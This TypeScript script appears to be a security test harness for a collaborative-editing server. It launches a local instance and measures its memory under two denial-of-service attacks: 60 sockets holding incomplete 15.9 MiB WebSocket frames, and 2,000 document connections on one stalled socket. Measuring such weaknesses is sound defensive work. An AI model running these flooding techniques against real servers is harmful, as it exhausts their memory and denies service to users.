import { spawn } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { HocuspocusProvider, HocuspocusProviderWebsocket } from '@hocuspocus/provider';
import WebSocket from 'ws';
import * as Y from 'yjs';

/**
 * `tsx src/socketFlood.ts`: the server's resident memory under two socket attacks of the
 * integrity issue, measured from /proc on a real server process (`node --import tsx main.ts`):
 *   A. 60 anonymous sockets each holding a 15.9 MiB WebSocket frame that never completes;
 *   B. one socket holding 2,000 connections to one document, which stops reading while another
 *      client makes 20 edits of 1 kB.
 */
const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../..');
const MiB = 1024 * 1024;

function rss(pid: number): number {
  const line = readFileSync(`/proc/${pid}/status`, 'utf8')
    .split('\n')
    .find((l) => l.startsWith('VmRSS:'));
  return Number(/\d+/.exec(line ?? '')?.[0] ?? 0) * 1024;
}

const settle = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

async function startServer(): Promise<{ base: string; pid: number; stop(): void }> {
  const dataDir = mkdtempSync(path.join(tmpdir(), 'fellesplan-flood-'));
  const child = spawn(process.execPath, ['--import', 'tsx', path.join(root, 'server/src/main.ts')], {
    cwd: path.join(root, 'server'),
    env: { ...process.env, PORT: '0', DATA_DIR: dataDir, LOG_LEVEL: 'error', CLIENT_DIST: '' },
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  const base = await new Promise<string>((resolve) => {
    let out = '';
    child.stdout.on('data', (chunk: Buffer) => {
      out += chunk.toString();
      const match = /(http:\/\/\S+)/.exec(out);
      if (match?.[1]) resolve(match[1]);
    });
  });
  return {
    base,
    pid: child.pid ?? 0,
    stop() {
      child.kill('SIGKILL');
      rmSync(dataDir, { recursive: true, force: true });
    },
  };
}

/** A WebSocket handshake by hand, then a frame header announcing `length` bytes and most of them. */
function partialFrame(base: string, length: number, send: number): Promise<Socket> {
  const url = new URL(base);
  return new Promise((resolve) => {
    const socket = connect(Number(url.port), url.hostname, () => {
      socket.write(
        `GET /collab HTTP/1.1\r\nHost: ${url.host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n` +
          'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n',
      );
      const header = Buffer.alloc(14);
      header[0] = 0x82; // final binary frame
      header[1] = 0x80 | 127; // masked, 64-bit length
      header.writeBigUInt64BE(BigInt(length), 2);
      socket.write(header); // the 4 mask bytes are the first 4 payload bytes below
      const chunk = Buffer.alloc(64 * 1024, 1);
      let written = 0;
      const pump = (): void => {
        while (written < send) {
          written += chunk.length;
          if (!socket.write(chunk)) {
            socket.once('drain', pump);
            return;
          }
        }
        resolve(socket);
      };
      pump();
    });
    socket.on('error', () => resolve(socket));
  });
}

async function attackA(base: string, pid: number): Promise<void> {
  const before = rss(pid);
  const sockets = await Promise.all(Array.from({ length: 60 }, () => partialFrame(base, 16 * MiB - 1024, 15.9 * MiB)));
  await settle(1000);
  const after = rss(pid);
  const open = sockets.filter((s) => !s.destroyed).length;
  console.log(`A. 60 partial 15.9 MiB frames: RSS +${((after - before) / MiB).toFixed(0)} MiB, ${open} sockets open`);
  for (const s of sockets) s.destroy();
}

async function attackB(base: string, pid: number): Promise<void> {
  const login = async (email: string) =>
    (
      (await (
        await fetch(`${base}/api/session`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ email, password: 'demo' }),
        })
      ).json()) as { token: string }
    ).token;
  const token = await login('kommune@demo.no');
  const plans = (await (
    await fetch(`${base}/api/plans`, { headers: { authorization: `Bearer ${token}` } })
  ).json()) as {
    id: string;
  }[];
  const plan = (await (
    await fetch(`${base}/api/plans/${plans[0]?.id}`, { headers: { authorization: `Bearer ${token}` } })
  ).json()) as { sections: { id: string }[] };
  const name = `section:${plan.sections[2]?.id}`;
  const ws = new WebSocket(`${base.replace('http', 'ws')}/collab`);
  await new Promise((resolve) => ws.once('open', resolve));
  let accepted = 0;
  ws.on('message', (data: Buffer) => {
    // [address][2 = auth][2 = authenticated]…; the address length fits one varint byte here.
    const at = 1 + (data[0] ?? 0);
    if (data[at] === 2 && data[at + 1] === 2) accepted += 1;
  });
  ws.on('error', () => undefined);
  // In batches: Hocuspocus closes a socket with over 100 documents waiting for authentication.
  for (let i = 0; i < 2000; i++) {
    const key = Buffer.from(`${name}\0s${i}`);
    const tokenBytes = Buffer.from(token);
    ws.send(Buffer.concat([Buffer.from([key.length]), key, Buffer.from([2, 0, tokenBytes.length]), tokenBytes]));
    if (i % 50 === 49) await settle(300);
  }
  await settle(2000);
  ws.pause();
  const writer = new Y.Doc();
  const websocketProvider = new HocuspocusProviderWebsocket({
    url: `${base.replace('http', 'ws')}/collab`,
    WebSocketPolyfill: WebSocket,
  });
  const provider = new HocuspocusProvider({
    name,
    document: writer,
    token: await login('hf@demo.no'),
    websocketProvider,
  });
  provider.attach();
  await new Promise<void>((resolve) => provider.on('synced', () => resolve()));
  const before = rss(pid);
  for (let i = 0; i < 20; i++) {
    const paragraph = new Y.XmlElement('paragraph');
    paragraph.insert(0, [new Y.XmlText('x'.repeat(1000))]);
    writer.getXmlFragment('content').push([paragraph]);
    await settle(100);
  }
  await settle(1000);
  const after = rss(pid);
  console.log(
    `B. 2,000 connections on one stalled socket (${accepted} accepted, socket ${ws.readyState === WebSocket.OPEN ? 'open' : 'closed'}): ` +
      `RSS +${((after - before) / MiB).toFixed(1)} MiB over 20 edits (${((after - before) / 20 / MiB).toFixed(2)} MiB per edit)`,
  );
  provider.destroy();
  websocketProvider.destroy();
  ws.terminate();
}

const server = await startServer();
try {
  await attackA(server.base, server.pid);
  await settle(2000);
  await attackB(server.base, server.pid);
} finally {
  server.stop();
}
process.exit(0);
